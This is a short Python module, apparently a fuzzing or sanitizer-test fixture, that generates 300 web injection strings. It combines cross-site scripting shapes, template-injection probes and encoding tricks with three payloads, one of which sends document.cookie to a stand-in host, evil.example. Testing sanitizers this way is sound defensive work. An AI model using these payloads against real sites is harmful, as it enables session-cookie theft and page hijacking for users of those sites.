"""Three hundred hostile texts: what each tries is to run, to load or to break out of where it stands."""

from __future__ import annotations

from itertools import islice, product

RUN = ("window.hit=1", "fetch('https://evil.example/'+document.cookie)", "alert(1)")
SHAPES = (
    "<script>{0}</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><!--{0}", "<img src=x onerror=\"{0}\">",
    "<svg/onload={0}>", "<svg><script>{0}</script></svg>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
    "<a href=\"javascript:{0}\">call us</a>", "<details open ontoggle={0}>", "<body onload={0}>", "<style>@import 'https://evil.example';</style>{0}",
    "<link rel=stylesheet href=https://evil.example/a.css>{0}", "<meta http-equiv=refresh content='0;url=https://evil.example'>{0}",
    "<base href=https://evil.example/>{0}", "<form action=https://evil.example><button formaction=javascript:{0}>ok</button></form>",
    "<input autofocus onfocus={0}>", "<object data=javascript:{0}>", "<math><mtext><table><mglyph><style><img src onerror={0}>",
    "<template><script>{0}</script></template>", "\"><script>{0}</script>", "' onmouseover='{0}", "</textarea><script>{0}</script>",
    "</title><script>{0}</script>", "--><script>{0}</script>", "]]><script>{0}</script>", "{{{{7*7}}}}{{% import os %}}{0}",
    "{{{{config.__class__.__init__.__globals__}}}}{0}", "${{{0}}}", "<%= {0} %>", "javascript:{0}", "data:text/html,<script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}", "%3Cscript%3E{0}", "\u003cscript\u003e{0}", "[a](javascript:{0})",
    "![a](https://evil.example/p.png){0}", "<!--<script>{0}//-->", "<marquee onstart={0}>", "<video><source onerror={0}>",
    "<x onclick={0} style=position:fixed;inset:0>x</x>",
)  # fmt: skip
WRAPS = (
    "{0}", "hi {0} bye", "\u202e{0}", "{0}\n\n{0}", "\x02{0}\x03", "<b>{0}", "{0}" + " ldn" * 20,
)


def texts(count: int = 300) -> list[str]:
    """Different ones, the plain shapes first."""
    made = (wrap.format(shape.format(run)) for wrap, run, shape in product(WRAPS, RUN, SHAPES))
    return list(islice(dict.fromkeys(made), count))
